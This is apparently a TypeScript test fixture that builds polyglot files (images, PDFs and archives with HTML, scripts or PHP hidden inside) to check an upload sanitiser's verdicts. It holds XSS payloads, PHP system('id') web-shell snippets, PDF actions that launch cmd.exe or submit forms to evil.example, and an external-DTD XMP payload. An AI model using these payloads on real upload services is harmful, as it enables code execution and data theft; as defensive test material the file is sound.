// Files that are two things at once: what a look at their first bytes says, and what another program takes them for.
import { harmless, hex, hostile, type HostileFile, join, le32, noise, raw, refused, served, utf8 } from "./bytes.ts";
import { AVIF, chunk, gif, gifComment, JPEG, jpegWith, PNG, png, riff, text, WEBP } from "./pictures.ts";
import { OFFICE, office, zip } from "./zip.ts";

const evil = "window.__pwned=1;alert(1)";
const page = `<html><body><script>${evil}</script><img src="https://evil.example/p.gif"></body></html>`;
const archive = zip([{ name: "a.sh", data: "#!/bin/sh\nid\n" }]);
const jar = zip([
  { name: "META-INF/MANIFEST.MF", data: "Main-Class: A\n" },
  { name: "A.class", data: noise(60) },
]);

const pdf = (more: string, end = "") =>
  `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R${more}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n${end}`;

/** What is made anew holds none of it; what cannot be made anew is kept from everybody. */
const picture = (type: string) => harmless(type);

const pictures: readonly HostileFile[] = [
  hostile(
    "a GIF whose size is the name of a variable",
    ["a.gif", "image/gif"],
    join(raw("GIF89a=1;"), `${evil};//`),
    picture("image/gif"),
  ),
  hostile(
    "a GIF with a script in its comment",
    ["a.gif", "image/gif"],
    gif(0x2f2a, 10, 1, [gifComment(`*/=1;${evil};/*`)]),
    harmless("image/gif", "image/webp"),
  ),
  hostile(
    "a GIF and a script",
    ["a.gif", "application/javascript"],
    join(gif(8, 8, 1), `=1;${evil}`),
    harmless("image/gif", "image/webp"),
  ),
  hostile("a GIF and a page", ["a.html", "text/html"], join(gif(8, 8, 1), page), harmless("image/gif", "image/webp")),
  hostile(
    "a GIF and an archive of Java",
    ["a.gif", "image/gif"],
    join(gif(8, 8, 2), jar),
    harmless("image/gif", "image/webp"),
  ),
  hostile(
    "a GIF with PHP",
    ["a.php.gif", "image/gif"],
    join(gif(8, 8, 1, [gifComment("<?php system('id'); ?>")])),
    harmless("image/gif", "image/webp"),
  ),
  hostile(
    "a JPEG with a page in its comment",
    ["a.jpg", "image/jpeg"],
    jpegWith(0xfe, utf8(page)),
    harmless("image/jpeg", "image/webp"),
  ),
  hostile("a JPEG and a page", ["a.html", "text/html"], join(JPEG, page), harmless("image/jpeg", "image/webp")),
  hostile(
    "a JPEG and an archive",
    ["a.zip", "application/zip"],
    join(JPEG, archive),
    harmless("image/jpeg", "image/webp"),
  ),
  hostile(
    "a JPEG and a document",
    ["a.pdf", "application/pdf"],
    join(JPEG, pdf("")),
    harmless("image/jpeg", "image/webp"),
  ),
  hostile(
    "a JPEG with a script in its first segment",
    ["a.js", "text/javascript"],
    jpegWith(0xe0, join(raw("JFIF\0"), `*/=${evil}/*`)),
    harmless("image/jpeg", "image/webp"),
  ),
  hostile(
    "a JPEG with PHP in its EXIF",
    ["a.jpg.php", "image/jpeg"],
    jpegWith(0xe1, join(raw("Exif\0\0"), "<?php system('id'); ?>")),
    harmless("image/jpeg", "image/webp"),
  ),
  hostile(
    "a JPEG with XMP that calls another host",
    ["a.jpg", "image/jpeg"],
    jpegWith(
      0xe1,
      join(
        raw("http://ns.adobe.com/xap/1.0/\0"),
        `<!DOCTYPE x SYSTEM "https://evil.example/x.dtd"><x:xmpmeta xmlns:x="adobe:ns:meta/"/>`,
      ),
    ),
    harmless("image/jpeg", "image/webp"),
  ),
  hostile("a PNG and an archive", ["a.png", "image/png"], join(PNG, archive), harmless("image/png", "image/webp")),
  hostile(
    "a PNG and an archive of Java",
    ["a.jar", "application/java-archive"],
    join(PNG, jar),
    harmless("image/png", "image/webp"),
  ),
  hostile("a PNG and a page", ["a.html", "text/html"], join(PNG, page), harmless("image/png", "image/webp")),
  hostile(
    "a PNG with a page in its words",
    ["a.png", "image/png"],
    png({ width: 8, height: 8, before: [text(page)] }),
    harmless("image/png", "image/webp"),
  ),
  hostile(
    "a PNG with a page in a chunk of its own",
    ["a.htm", "text/html"],
    png({ width: 8, height: 8, after: [chunk("evIl", utf8(page))] }),
    harmless("image/png", "image/webp"),
  ),
  hostile(
    "a PNG and PHP",
    ["a.php", "image/png"],
    join(PNG, "<?php system('id'); ?>"),
    harmless("image/png", "image/webp"),
  ),
  hostile("a WebP and a page", ["a.webp", "image/webp"], join(WEBP, page), harmless("image/webp")),
  hostile(
    "a WebP with XMP of a page",
    ["a.webp", "image/webp"],
    riff("WEBP", WEBP.subarray(12), join(raw("XMP "), le32(page.length), page)),
    harmless("image/webp"),
  ),
  hostile("an AVIF and a page", ["a.avif", "image/avif"], join(AVIF, page), harmless("image/avif", "image/webp")),
  hostile(
    "a BMP and a script",
    ["a.bmp", "image/bmp"],
    join(raw("BM=1;/*"), hex("00000036000000280000000100000001000000 0100 1800"), `*/${evil}`),
    refused(415),
  ),
];

const documents: readonly HostileFile[] = [
  hostile(
    "a document that runs a script",
    ["a.pdf", "application/pdf"],
    pdf("/OpenAction<</S/JavaScript/JS(app.alert(1);this.submitForm('https://evil.example'))>>"),
    served("application/pdf"),
  ),
  hostile(
    "a document that starts a program",
    ["a.pdf", "application/pdf"],
    pdf("/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(calc.exe)>>>>"),
    served("application/pdf"),
  ),
  hostile(
    "a document that opens an address",
    ["a.pdf", "application/pdf"],
    pdf("/OpenAction<</S/URI/URI(javascript:alert\\(1\\))>>"),
    served("application/pdf"),
  ),
  hostile(
    "a document with a file in it",
    ["a.pdf", "application/pdf"],
    pdf("/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>"),
    served("application/pdf"),
  ),
  hostile(
    "a document with a form that fetches",
    ["a.pdf", "application/pdf"],
    pdf(
      `/AcroForm<</XFA(<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>xfa.host.messageBox(1)</script></xdp:xdp>)>>`,
    ),
    served("application/pdf"),
  ),
  hostile("a document under the name of a page", ["a.html", "text/html"], pdf("", page), harmless("application/pdf")),
  hostile(
    "a document and an archive",
    ["a.zip", "application/zip"],
    join(pdf(""), archive),
    harmless("application/pdf"),
  ),
  hostile(
    "a document after a page",
    ["a.pdf", "application/pdf"],
    `${page}\n${pdf("")}`,
    harmless("application/pdf", "text/plain"),
  ),
  hostile(
    "a document after a kilobyte of words",
    ["a.pdf", "application/pdf"],
    `${"x".repeat(1_000)}\n${pdf("")}`,
    harmless("application/pdf", "text/plain"),
  ),
  hostile(
    "a document that is only its beginning",
    ["a.pdf", "application/pdf"],
    "%PDF-",
    harmless("application/pdf", "text/plain"),
  ),
  hostile(
    "a document with endless references",
    ["a.pdf", "application/pdf"],
    `%PDF-1.7\n${"1 0 obj<</Kids[1 0 R]>>endobj\n".repeat(9_000)}`,
    served("application/pdf"),
  ),
  hostile(
    "a page before an archive",
    ["a.zip", "application/zip"],
    join(page, archive),
    harmless("text/plain", "application/zip"),
  ),
  hostile(
    "a program before an archive",
    ["a.zip", "application/zip"],
    join(raw("MZ"), noise(300), archive),
    refused(415),
  ),
  hostile(
    "a document of Office with a page behind it",
    ["a.docx", OFFICE.docx],
    join(office("docx", "<w:document/>"), page),
    harmless(OFFICE.docx, "application/zip"),
  ),
];

export const polyglots: readonly HostileFile[] = [...pictures, ...documents];
